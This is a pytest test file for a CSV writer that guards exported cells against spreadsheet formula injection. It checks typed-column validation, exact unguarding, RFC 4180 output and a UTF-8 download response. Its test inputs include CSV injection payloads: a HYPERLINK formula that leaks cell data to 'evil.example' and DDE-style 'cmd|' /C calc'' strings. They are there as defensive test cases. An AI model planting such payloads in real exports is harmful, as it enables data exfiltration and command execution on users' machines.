"""The shared CSV writer: nothing Trellis writes runs as a formula in a spreadsheet, typed
columns stay their type, and the guard comes off again exactly."""

from __future__ import annotations

import csv
import datetime
import decimal
import io

import pytest

from core import csv as cells

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already guarded",
    "''@twice",
]
HARMLESS = ["", "Harbor Counseling", "'quoted", "a=b", " =leading space", "5-2"]


def written(rows, rules=None) -> str:
    out = io.StringIO()
    cells.Writer(out, rules).writerows(rows)
    return out.getvalue()


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def runs_in_a_spreadsheet(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_a_spreadsheet_would_run_opens_as_text(value):
    [[cell]] = read_back(written([[value]]))

    assert cell.startswith("'") and not runs_in_a_spreadsheet(cell)
    assert cell == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_written_as_it_is(value):
    assert read_back(written([[value, "x"]]))[0][0] == value


@pytest.mark.parametrize("value", HOSTILE + HARMLESS + ["'", "'-", "'''+x", "=", "'\r"])
def test_unguard_gives_back_exactly_what_was_neutralized(value):
    [[cell]] = read_back(written([[value]]))

    assert cells.unguard(cell) == value


def test_unguard_leaves_an_apostrophe_the_writer_would_not_have_added():
    assert cells.unguard("'quoted") == "'quoted"
    assert cells.unguard("'") == "'"
    assert cells.unguard("x'=1") == "x'=1"


def test_numbers_and_dates_of_a_spreadsheet_export_stay_numbers_and_dates():
    row = [-71.06, -3, decimal.Decimal("-0.5"), datetime.date(2025, 3, 4), None, True]

    assert read_back(written([row])) == [["-71.06", "-3", "-0.5", "2025-03-04", "", "true"]]


def test_typed_columns_are_validated_and_written_as_they_are():
    rules = [cells.number, cells.integer, cells.date, cells.datetime_, cells.uuid_, cells.text]
    row = [
        "-71.06",
        "-12",
        "2025-03-04",
        "2025-03-04T15:30:12.345678+00:00",
        "0b6f3f4e-57c1-4c55-9a8e-2f1d6e0c7a31",
        "-text",
    ]

    assert read_back(written([row], rules)) == [[*row[:5], "'-text"]]


@pytest.mark.parametrize(
    ("rule", "value"),
    [
        (cells.number, "=1+1"),
        (cells.number, "-71.06)"),
        (cells.integer, "+1"),
        (cells.integer, "1.5"),
        (cells.date, "=TODAY()"),
        (cells.date, "20250304"),
        (cells.datetime_, "@2025-03-04"),
        (cells.uuid_, "-0b6f3f4e-57c1-4c55-9a8e-2f1d6e0c7a31"),
        (cells.boolean, "=TRUE()"),
    ],
)
def test_a_typed_column_refuses_a_value_that_is_not_its_type(rule, value):
    with pytest.raises(cells.CellError):
        written([[value]], [rule])


@pytest.mark.parametrize(
    "number", ["+1 555 0100", "(555) 010-0100", "555.010.0100 x12", "+44 20 7946 0958 ext. 3"]
)
def test_a_phone_number_is_written_as_it_is(number):
    assert read_back(written([[number]], [cells.phone])) == [[number]]


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://evil.example")', "+1 555 0100'!A0", "-cmd|' /C calc'!A0", "@1"]
)
def test_a_phone_column_neutralizes_what_is_not_a_phone_number(value):
    [[cell]] = read_back(written([[value]], [cells.phone]))

    assert cell == "'" + value and cells.unguard(cell) == value


def test_the_dialect_is_rfc_4180_with_crlf_line_ends_and_minimal_quoting():
    text = written([["a", 'say "hi"', "x,y", "two\nlines"], ["1", "2", "3", "4"]])

    assert text == 'a,"say ""hi""","x,y","two\nlines"\r\n1,2,3,4\r\n'


def test_a_header_is_written_as_text_whatever_the_column_rules():
    out = io.StringIO()
    writer = cells.Writer(out, [cells.uuid_, cells.number])
    writer.writeheader(["id", "longitude"])
    writer.writerow(["0b6f3f4e-57c1-4c55-9a8e-2f1d6e0c7a31", "-71.06"])

    assert read_back(out.getvalue()) == [
        ["id", "longitude"],
        ["0b6f3f4e-57c1-4c55-9a8e-2f1d6e0c7a31", "-71.06"],
    ]


def test_a_csv_download_is_utf8_with_a_bom_and_its_text_neutralized():
    response = cells.csv_response("report.csv", [["=1+1", 3]], header=["name", "count"])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="report.csv"'
    assert response.content.startswith("\ufeff".encode())
    assert read_back(response.content.decode("utf-8-sig")) == [["name", "count"], ["'=1+1", "3"]]
